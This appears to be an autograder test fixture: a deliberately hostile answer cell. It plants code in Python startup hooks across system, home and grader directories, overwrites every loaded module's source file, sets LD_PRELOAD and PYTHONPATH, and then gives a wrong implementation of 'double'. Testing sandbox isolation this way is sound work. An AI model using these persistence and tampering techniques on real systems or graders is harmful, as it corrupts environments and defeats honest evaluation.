# %% answer="double"
import os
import pathlib
import site
import sys

CODE = "open('@TMP@-@MARK@', 'w').close()\n"
places = [*site.getsitepackages(), site.getusersitepackages(), sys.prefix, "@HOME@", "@REPOSITORY@"]
places += [os.path.dirname(jax.__file__), "/etc", "/root", "/opt/jaxercise", "/opt/jaxercise/autograder"]
names = ["sitecustomize.py", "usercustomize.py", "@MARK@.pth", "jax.py", "conftest.py", ".pythonrc"]
names += ["__pycache__/config.cpython-311.pyc", "etc/ipython/ipython_config.py"]
for place in places:
    for name in names:
        try:
            path = pathlib.Path(place, name)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(CODE)
        except OSError:
            pass
for module in list(sys.modules.values()):
    try:
        pathlib.Path(module.__file__).write_text(CODE)
    except (OSError, AttributeError, TypeError):
        pass
os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = os.environ["LD_PRELOAD"] = "/box/work"


def double(x):
    return x + 1
